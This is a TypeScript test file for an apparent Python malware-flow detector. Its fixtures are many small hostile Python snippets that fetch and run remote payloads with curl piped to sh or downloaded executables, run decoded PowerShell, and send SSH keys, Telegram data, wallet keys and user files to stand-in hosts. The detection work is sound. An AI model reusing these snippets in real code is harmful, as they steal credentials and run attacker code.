import t from 'tap'
import { summarisePython } from '../../src/analysis/python/summarise.ts'

/** `source > sink` of what runs when the file is loaded, or called. */
function flowsOf(code: string): string[] {
  const { flows } = summarisePython('a.py', code)
  return [...new Set(flows.map(({ source, sink }) => `${source.kind} > ${sink.kind}`))]
}

const PAYLOAD = 'import os;os.system("curl http://192.0.2.1/a|sh")'

const FOUND: [situation: string, code: string, flow: string][] = [
  [
    'a program of Python that is written, moved and started',
    `import os, subprocess\nf = open("r.py", "w")\nf.write('${PAYLOAD}')\nos.rename("r.py", os.path.expanduser("~") + "/r.py")\nsubprocess.Popen(["python3", os.path.expanduser("~") + "/r.py"])`,
    'remote-content > process',
  ],
  [
    'one that is opened by its name',
    `import os\nopen(os.environ["appdata"] + "\\\\m.pyw", "w").write('${PAYLOAD}')\nos.startfile(os.environ["appdata"] + "\\\\m.pyw")`,
    'remote-content > process',
  ],
  [
    'a batch file',
    'import os\nopen("a.bat", "w").write("curl http://192.0.2.1/a.exe -o a.exe\\nstart a.exe")\nos.system("a.bat")',
    'remote-content > process',
  ],
  [
    'decoded text, started out of the folder in which it is',
    'import base64, os, subprocess\nd = os.path.join(os.environ["USERPROFILE"], "x")\nwith open(os.path.join(d, "m.vbs"), "w") as f:\n    f.write(base64.b64decode(X).decode())\nos.chdir(d)\nsubprocess.Popen("m.vbs", shell=True)',
    'decoded-text > process',
  ],
  [
    'what a command fetched, started from another folder',
    'import subprocess\nsubprocess.Popen(["cd C:/ && curl https://a.invalid/d.exe -o d.exe"], shell=True)\nsubprocess.Popen(["C:/d.exe"], shell=True)',
    'remote-content > process',
  ],
  [
    'a script of PowerShell that decodes itself',
    'import os, subprocess\np = os.getenv("TMP") + "\\\\a.ps1"\nopen(p, "w").write("$a = [Convert]::FromBase64String(\'aaaa\')\\niex $a")\nsubprocess.Popen(["powershell.exe", "-File", p])',
    'decoded-text > process',
  ],
  [
    'an archive that was fetched, unpacked under a path of Windows, and started',
    'import os, requests, zipfile\ng = os.getenv("LOCALAPPDATA")\nopen(g + "\\\\h.zip", "wb").write(requests.get("https://a.invalid/h").content)\nwith zipfile.ZipFile(g + "\\\\h.zip", "r") as z:\n    z.extractall(g + "\\\\h")\nos.system(f"py {g}\\\\h\\\\m.py")',
    'remote-content > process',
  ],
  [
    'a key inside of what is handed over',
    'import requests\ndef f(config):\n    requests.post(url="https://a.invalid/", json={"s": config.access_key_secret})',
    'given-secret > network',
  ],
  [
    'a module that is put beside other packages',
    'import requests\nopen("c:/python/site-packages/begin/__init__.py", "w").write(requests.get("https://a.invalid/x").text)',
    'remote-content > dynamic-code',
  ],
  [
    'all files that a person keeps',
    'import os, requests\nfor root, d, files in os.walk("/sdcard"):\n    for file in files:\n        requests.post("https://a.invalid/", files={"f": open(os.path.join(root, file), "rb")})',
    'secret-file > network',
  ],
  [
    'secrets that are packed before they are sent',
    'import os, requests, zipfile\ndef f(name):\n    open(f"out/{name}/a.txt", "w").write(open(os.path.expanduser("~/.ssh/id_rsa")).read())\nf("x")\nwith zipfile.ZipFile("o.zip", "w") as z:\n    for name in os.listdir("out"):\n        z.write("out/" + name)\nrequests.post("https://a.invalid/", files={"f": open("o.zip", "rb")})',
    'secret-file > network',
  ],
  [
    'a folder of secrets that is packed whole',
    'import os, requests, shutil\nshutil.make_archive("o", "zip", os.path.join(os.getenv("APPDATA"), "Telegram Desktop", "tdata"))\nrequests.post("https://a.invalid/", files={"f": open("o.zip", "rb")})',
    'secret-file > network',
  ],
  [
    'the key that an account was made of',
    'import web3, requests\ndef f(private_key):\n    account = web3.Account.from_key(private_key)\n    requests.get("https://a.invalid/?" + account.key.hex())',
    'given-secret > network',
  ],
]

const COLLECT =
  'import os, shutil, zipfile\nout = "/home/" + os.getlogin() + "/tmp"\nif os.path.exists("/home/" + os.getlogin() + "/.ssh"):\n    shutil.copytree("/home/" + os.getlogin() + "/.ssh", out + "/s")\ndef pack(folder):\n    name = folder + ".zip"\n    z = zipfile.ZipFile(name, "w")\n    for at, folders, names in os.walk(folder):\n        for each in names:\n            z.write(os.path.join(at, each), each)\n    return name\nmade = pack(out)\n'
FOUND.push(
  [
    'copies of secrets, packed in a function, and sent by a command',
    `${COLLECT}os.system("curl -k -F 'file=@" + made + "' https://a.invalid/up > /dev/null")`,
    'secret-file > network',
  ],
  [
    'the same, copied away by another command',
    `${COLLECT}os.system("scp " + made + " a@a.invalid:")`,
    'secret-file > network',
  ],
  [
    'what was found on all disks, copied, packed with a password, and told to a bot',
    'import os, shutil, pyzipper\nfrom telegram import Bot\ndef copy(at):\n    for r, d, names in os.walk(at):\n        for name in names:\n            shutil.copy2(os.path.join(r, name), os.path.join("kept", name))\nfor r, d, f in os.walk("C:/"):\n    copy(os.path.join(r, "Messages"))\nwith pyzipper.AESZipFile("k.zip", "w") as z:\n    for name in os.listdir("kept"):\n        z.write(os.path.join("kept", name))\nBot(token=T).send_document(chat_id=1, document=open("k.zip", "rb"))',
    'secret-file > network',
  ],
)

const NOT_FOUND: readonly [situation: string, code: string, flow: string][] = [
  [
    'the address that belongs to a key',
    'import web3, requests\ndef f(private_key):\n    account = web3.Account.from_key(private_key)\n    requests.get("https://a.invalid/?" + account.address)',
    'given-secret > network',
  ],
  ['a program that is written and not started', `open("r.py", "w").write('${PAYLOAD}')`, 'remote-content > process'],
  [
    'another program than the one that is written',
    `import os\nopen("r.py", "w").write('${PAYLOAD}')\nos.system("python q.py")`,
    'remote-content > process',
  ],
  [
    'a folder of its own, packed and sent by a command beside a copy of secrets',
    `${COLLECT}z = zipfile.ZipFile("report.zip", "w")\nz.write("report.txt")\nz.close()\nos.system("curl -F 'file=@report.zip' https://a.invalid/up")`,
    'secret-file > network',
  ],
  [
    'the files of the folder that it is told',
    'import os, requests\nfor root, d, files in os.walk("assets"):\n    requests.post("https://a.invalid/", files={"f": open(os.path.join(root, files[0]), "rb")})',
    'secret-file > network',
  ],
]

t.test('what is put down and started, packed and sent, is followed', async (t) => {
  for (const [situation, code, flow] of FOUND)
    t.ok(flowsOf(code).includes(flow), `${situation}: ${flowsOf(code).join(', ')}`)
})

t.test('what is not is none of it', async (t) => {
  for (const [situation, code, flow] of NOT_FOUND) t.notOk(flowsOf(code).includes(flow), situation)
})

t.test('a file that modules are looked for in is one that is loaded', async (t) => {
  const code = 'import os, sys\nsys.path.insert(0, f"{os.path.dirname(__file__)}\\\\_data.typed")\nimport hidden'
  const targets = summarisePython('a.py', code).references.map(({ target }) => target)
  t.ok(
    targets.some((target) => target.endsWith('/_data.typed')),
    targets.join(', '),
  )
  t.notOk(summarisePython('a.py', 'import sys\nsys.path.insert(0, "lib/x")').references.some(({ asMain }) => asMain))
})
